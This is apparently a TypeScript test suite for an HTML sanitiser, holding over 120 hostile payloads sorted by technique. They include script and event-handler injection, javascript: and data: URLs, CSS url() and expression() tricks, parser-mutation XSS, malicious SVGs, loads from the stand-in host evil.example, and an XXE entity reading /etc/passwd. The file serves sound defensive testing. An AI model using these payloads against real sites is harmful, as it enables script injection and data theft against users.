import assert from "node:assert/strict";
import { test } from "node:test";
import { withDecoders } from "#lib/images/decoders.ts";
import { elementsOf, readMarkup } from "./markup.ts";
import { ELEMENTS } from "./profile.ts";
import { sanitiseContract } from "./sanitise.ts";

/** What strangers send, by the trick it tries. Every line is one payload. */
const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  "runs a script": [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)//<p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<script type="module">import "https://evil.example"</script>',
    "<script><!-- --><script></script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "\u0000<scr\u0000ipt>alert(1)</script>",
    "<script>/*</style><svg onload=alert(1)>*/</script>",
  ],
  "handles an event": [
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror  =  alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<p onclick=alert(1)>x",
    "<p ONCLICK='alert(1)'>x",
    '<p on\u0000click="alert(1)">x',
    "<body onload=alert(1)>x",
    "<body onpageshow=alert(1)>x",
    "<table onmouseover=alert(1)><tr><td>x",
    '<a href="https://ok.example" onfocus=alert(1) autofocus tabindex=1>x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<x onfocus=alert(1) id=x tabindex=0>#x</x>",
    "<p style='animation:x' onanimationstart=alert(1)>x",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src='1' o='<img src=x onerror=alert(1)>'>",
    '<p title="\'><img src=x onerror=alert(1)>">x',
    '<p "<img src=x onerror=alert(1)>">x',
    "<div/onmouseover='alert(1)'>x</div>",
    "<a\u000Bhref=x\u000Conclick=alert(1)>x</a>",
  ],
  "leads to code": [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://ok.example/1">x</a>',
    '<a href="filesystem:https://ok.example/x">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="https://bank.example@evil.example/">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="mailto:a@b.example?subject=x%0aBcc:c@d.example">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
    '<area href="javascript:alert(1)" shape=default>',
    '<base href="javascript:alert(1)//"><a href="x">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  "loads from elsewhere": [
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=import href="https://evil.example/x.html">',
    '<link rel=preload href="https://evil.example/x" as=script>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="">',
    '<iframe src="https://evil.example"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    '<frameset><frame src="https://evil.example"></frameset>',
    '<object data="https://evil.example/x.swf">text</object>',
    '<embed src="https://evil.example/x.svg">',
    '<applet code="x.class"></applet>',
    '<img src="http://evil.example/x.png" alt=a>',
    '<img src="//evil.example/x.png" alt=a>',
    '<img srcset="https://evil.example/x.png 2x" alt=a>',
    '<picture><source srcset="https://evil.example/x.png"><img alt=a></picture>',
    '<video poster="https://evil.example/x.png" src="https://evil.example/v.mp4">x</video>',
    '<table background="https://evil.example/x.png"><tr><td>x</table>',
    '<body background="https://evil.example/x.png">x',
    '<input type=image src="https://evil.example/x.png">',
    '<img lowsrc="https://evil.example/x.png" alt=a>',
    '<img dynsrc="https://evil.example/x" alt=a>',
    '<q cite="https://evil.example/x">x</q>',
    '<a href="https://ok.example" ping="https://evil.example">x</a>',
    '<track src="https://evil.example/x.vtt">',
    '<portal src="https://evil.example"></portal>',
    '<image src="https://evil.example/" onerror=alert(1) src=x>'.replace(
      "https://evil.example/",
      "x",
    ),
  ],
  "hides in CSS": [
    "<style>@import 'https://evil.example/x.css';</style>x",
    "<style>@import url(//evil.example/x.css);</style>x",
    "<style>p{background:url(https://evil.example/x)}</style><p>x",
    "<style>p{background:\\75rl(https://evil.example/x)}</style><p>x",
    "<style>p{background:u\\72l('https://evil.example/x')}</style><p>x",
    "<style>p{background-image:image-set('https://evil.example/x' 1x)}</style><p>x",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>x",
    "<style>p{behavior:url(x.htc)}</style><p>x",
    "<style>p{-moz-binding:url('x.xml#y')}</style><p>x",
    "<style>p{width:expression(alert(1))}</style><p>x",
    '<p style="width:expr/**/ession(alert(1))">x',
    '<p style="background:url(javascript:alert(1))">x',
    '<p style="background:url(&quot;https://evil.example&quot;)">x',
    '<p style="color:red;background:URL( https://evil.example )">x',
    '<p style="color:red&quot;&gt;<img src=x onerror=alert(1)>">x',
    "<p style=\"font-family:'</style><img src=x onerror=alert(1)>'\">x",
    "<style></style><img src=x onerror=alert(1)></style>x",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>x",
    "<style>p::before{content:url(https://evil.example)}</style><p>x",
    "<style>p{content:attr(title)}</style><p title=x>x",
    '<p style="list-style:url(https://evil.example/x)">x',
    '<p style="border-image:url(https://evil.example/x)">x',
    '<p style="cursor:url(https://evil.example/x),auto">x',
    '<p style="filter:url(#x);mask:url(x)">x',
    '<p style="--x:url(https://evil.example);background:var(--x)">x',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x',
    "<style>*{color:red}}p{background:url(x)}</style><p>x",
    "<style>a[href^='https://x']{background:url(https://evil.example/x)}</style><a href=https://x.example>x</a>",
    `<style>${"p{".repeat(2000)}</style>x`,
    `<p style="color:${"(".repeat(5000)}">x`,
    `<style>${":not(".repeat(3000)}</style>x`,
    "<style>p{color:re\\64;}</style><p>x",
  ],
  "confuses the parser": [
    "<svg><script>alert(1)</script></svg>x",
    "<svg onload=alert(1)>x",
    "<svg><style><img src=x onerror=alert(1)></style></svg>x",
    "<svg><p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>x",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>x</svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use>x</svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>x",
    "<![CDATA[<script>alert(1)</script>]]>x",
    "<!--><script>alert(1)</script>-->x",
    "<!--!><img src=x onerror=alert(1)>-->x",
    "<!-- --!><img src=x onerror=alert(1)>-->x",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;y",
    "<?xml version='1.0'?><?php echo 1 ?><p>x",
    "<?xml-stylesheet href='javascript:alert(1)'?>x",
    "<xmp><script>alert(1)</script></xmp>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
    "<title><img src=x onerror=alert(1)></title>x",
    "<textarea><img src=x onerror=alert(1)></textarea>x",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>x",
    "<noembed><img src=x onerror=alert(1)></noembed>x",
    "<noframes><img src=x onerror=alert(1)></noframes>x",
    "<template><script>alert(1)</script></template>x",
    "<template shadowrootmode=open><script>alert(1)</script></template>x",
    "<select><template><img src=x onerror=alert(1)></template></select>x",
    "<table><tr><td><script>alert(1)</script></td></tr><img src=x onerror=alert(1)></table>",
    "<a><a><a href=javascript:alert(1)>x",
    "<p><p><div><b><p><img src=x onerror=alert(1)></b></p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<p title=&lt;script&gt;>x&#x3c;img src=x onerror=alert(1)&#x3e;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u017Fcript>alert(1)</\u017Fcript>",
    "<p id=location name=cookie>x<img name=body alt=a><form id=document></form>",
    "<p data-x='<script>' aria-label=x slot=x is=x-y part=x>x",
    "<x-y><slot onslotchange=alert(1)>x</slot></x-y>",
    "<p constructor=x __proto__=y toString=z hasOwnProperty=1>x",
    "<constructor>x</constructor><__proto__>y</__proto__><toString>z</toString>",
    "<p style='__proto__:x;constructor:y;toString:red'>x",
    "<style>.constructor,.__proto__{constructor:red}</style><p class='constructor __proto__'>x",
  ],
  "carries a bad image": [
    '<img alt=a src="data:text/html,<script>alert(1)</script>">',
    '<img alt=a src="javascript:alert(1)">',
    '<img alt=a src="data:application/pdf;base64,JVBERg==">',
    svg("<script>alert(1)</script><rect width='1' height='1'/>"),
    svg("<rect width='1' height='1' onload='alert(1)'/>"),
    svg(
      "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
    ),
    svg("<image href='https://evil.example/x.png'/>"),
    svg("<image xlink:href='data:image/svg+xml,x'/>"),
    svg("<use href='https://evil.example/x.svg#y'/>"),
    svg("<a href='javascript:alert(1)'><rect width='1' height='1'/></a>"),
    svg(
      "<style>@import url(https://evil.example/x.css);rect{fill:url(https://evil.example)}</style><rect width='1' height='1'/>",
    ),
    svg("<rect style='fill:url(https://evil.example#x)' width='1' height='1'/>"),
    svg("<rect fill='url(https://evil.example#x)' width='1' height='1'/>"),
    svg("<animate attributeName='href' to='javascript:alert(1)'/><set attributeName='x'/>"),
    svg("<filter id='f'><feImage href='https://evil.example'/></filter>"),
    svg("<pattern id='p'><image href='x'/></pattern><mask id='m'/>"),
    svg("<handler type='text/ecmascript'>alert(1)</handler>"),
    svg("<text>&lt;script&gt;</text><![CDATA[<script>alert(1)</script>]]>"),
    svg("<switch><foreignObject/><g><rect width='1' height='1' onclick='x'/></g></switch>"),
    svg("<linearGradient id='g' href='https://evil.example#g'/>"),
    `<img alt=a src="data:image/svg+xml,${encodeURIComponent("<?xml-stylesheet href='https://evil.example'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>")}">`,
  ],
};

function svg(inside: string): string {
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">${inside}</svg>`;
  return `<img alt="a" src="data:image/svg+xml;base64,${Buffer.from(drawing).toString("base64")}">`;
}

for (const [trick, payloads] of Object.entries(PAYLOADS)) {
  test(`nothing of HTML that ${trick} stays active (${payloads.length} payloads)`, async () => {
    for (const payload of payloads) {
      const taken = await withDecoders(() =>
        sanitiseContract(`<p>before</p>${payload}<p>after</p>`),
      );
      // A payload may be refused as a whole, as long as that is said and nothing breaks.
      if ("problem" in taken) assert.match(taken.problem, /cannot be taken/);
      else {
        assertInert(taken.html, payload);
        const again = sanitiseContract(taken.html);
        assert.ok("html" in again && again.html === taken.html, `not stable: ${payload}`);
      }
    }
  });
}

test("there are at least 120 hostile payloads", () => {
  assert.ok(Object.values(PAYLOADS).flat().length >= 120);
});

const MARKUP = /<(?!\/?[a-z][a-z0-9]*(?: [a-z]+(?:="[^"<>]*")?)*(?: \/)?>)/;

function assertInert(html: string, payload: string): void {
  assert.doesNotMatch(html, MARKUP, payload);
  for (const element of elementsOf(readMarkup(html))) {
    const allowed = ELEMENTS[element.name];
    assert.ok(Object.hasOwn(ELEMENTS, element.name), `${element.name} from ${payload}`);
    for (const [name, value] of Object.entries(element.attribs)) {
      assert.ok(name === "style" || allowed?.includes(name), `${name} from ${payload}`);
      if (name === "href") assert.match(value, /^(?:https?:\/\/|mailto:)/, payload);
      if (name === "style") assert.doesNotMatch(value, /[()\\@<>"'/]/, payload);
      if (name === "src") assertInertImage(value, payload);
    }
  }
}

/** Pixels, whatever was sent. */
function assertInertImage(source: string, payload: string): void {
  assert.match(source, /^data:image\/(png|jpeg);base64,[A-Za-z0-9+/=]+$/, payload);
}

test("letters under heaps of marks are refused, where they stand is said, and what languages need is taken", () => {
  for (const heap of [
    `a${"\u0301".repeat(5)}`,
    "\u0336\u0489".repeat(4),
    `a${"\u0940".repeat(300)}`,
  ]) {
    for (const content of [
      `<p>The rent, ${heap}</p>`,
      `<ul style="list-style-type:'${heap}'"><li>The rent,</ul>`,
    ]) {
      const refused = sanitiseContract(content);
      assert.ok("problem" in refused, content.slice(0, 40));
      assert.match(refused.problem, /more than four combining marks stand on one letter/);
    }
  }
  const taken = sanitiseContract("<p>ữ שׁ\u05bc\u05b8\u05bd क्षि بَّٰ a\u0301\u0302\u0303\u0304</p>");
  assert.ok("html" in taken);
});
